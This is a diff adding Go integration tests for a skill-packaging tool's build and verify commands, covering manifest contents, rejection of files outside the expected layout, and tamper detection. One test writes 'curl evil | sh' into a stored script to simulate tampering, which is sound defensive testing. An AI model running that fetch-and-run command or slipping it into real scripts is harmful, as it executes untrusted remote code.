@@ -0,0 +1,117 @@
+package integration
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/c8ab/provenskills/internal/store"
+)
+
+func TestBuildRecordsContents(t *testing.T) {
+	bin := buildPSK(t)
+	storeDir := t.TempDir()
+
+	skillDir := createTempSkill(t, "content-skill", "1.0.0", "test-author")
+	for name, content := range map[string]string{
+		"scripts/lint.py":     "print('ok')\n",
+		"references/style.md": "# Style\n",
+		"assets/logo.svg":     "<svg/>\n",
+	} {
+		path := filepath.Join(skillDir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	stdout, stderr, exitCode := runPSK(t, bin,
+		[]string{"PSK_STORE=" + storeDir},
+		"build", skillDir, "--maintainer", "Test <test@example.com>",
+	)
+	if exitCode != 0 {
+		t.Fatalf("build failed with exit code %d\nstderr: %s", exitCode, stderr)
+	}
+	if !strings.Contains(stdout, "1 script(s)") {
+		t.Errorf("expected stdout to summarize contents, got:\n%s", stdout)
+	}
+
+	m, err := store.ReadManifest(filepath.Join(storeDir, "content-skill", "1.0.0", "manifest.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(m.Contents.Scripts) != 1 || m.Contents.Scripts[0].Path != "scripts/lint.py" || m.Contents.Scripts[0].Digest == "" {
+		t.Errorf("unexpected scripts: %+v", m.Contents.Scripts)
+	}
+	if len(m.Contents.References) != 1 || len(m.Contents.Assets) != 1 {
+		t.Errorf("unexpected references/assets: %+v", m.Contents)
+	}
+}
+
+func TestBuildRejectsFilesOutsideLayout(t *testing.T) {
+	bin := buildPSK(t)
+	storeDir := t.TempDir()
+
+	skillDir := createTempSkill(t, "messy-skill", "1.0.0", "test-author")
+	if err := os.WriteFile(filepath.Join(skillDir, "setup.sh"), []byte("#!/bin/sh\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+
+	_, stderr, exitCode := runPSK(t, bin,
+		[]string{"PSK_STORE=" + storeDir},
+		"build", skillDir, "--maintainer", "Test <test@example.com>",
+	)
+	if exitCode != 2 {
+		t.Fatalf("expected exit code 2, got %d", exitCode)
+	}
+	if !strings.Contains(stderr, "setup.sh") {
+		t.Errorf("expected stderr to name setup.sh, got:\n%s", stderr)
+	}
+
+	_, stderr, exitCode = runPSK(t, bin,
+		[]string{"PSK_STORE=" + storeDir},
+		"build", skillDir, "--maintainer", "Test <test@example.com>", "--allow-other-files",
+	)
+	if exitCode != 0 {
+		t.Fatalf("expected exit code 0 with --allow-other-files, got %d\nstderr: %s", exitCode, stderr)
+	}
+	m, err := store.ReadManifest(filepath.Join(storeDir, "messy-skill", "1.0.0", "manifest.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(m.Contents.Other) != 1 || m.Contents.Other[0].Path != "setup.sh" || !m.Contents.Other[0].Executable {
+		t.Errorf("expected setup.sh recorded in other, got %+v", m.Contents.Other)
+	}
+}
+
+func TestVerifyListsModifiedFiles(t *testing.T) {
+	bin := buildPSK(t)
+	storeDir := t.TempDir()
+
+	skillDir := createTempSkill(t, "content-skill", "1.0.0", "test-author")
+	if err := os.MkdirAll(filepath.Join(skillDir, "scripts"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(skillDir, "scripts", "run.sh"), []byte("echo hi\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, _, exitCode := runPSK(t, bin, []string{"PSK_STORE=" + storeDir}, "build", skillDir, "--maintainer", "Test <test@example.com>"); exitCode != 0 {
+		t.Fatalf("build failed with exit code %d", exitCode)
+	}
+
+	stored := filepath.Join(storeDir, "content-skill", "1.0.0", "scripts", "run.sh")
+	if err := os.WriteFile(stored, []byte("curl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	_, stderr, exitCode := runPSK(t, bin, []string{"PSK_STORE=" + storeDir}, "verify", "content-skill@1.0.0")
+	if exitCode != 6 {
+		t.Fatalf("expected exit code 6, got %d", exitCode)
+	}
+	if !strings.Contains(stderr, "modified: scripts/run.sh") {
+		t.Errorf("expected stderr to name the modified file, got:\n%s", stderr)
+	}
+}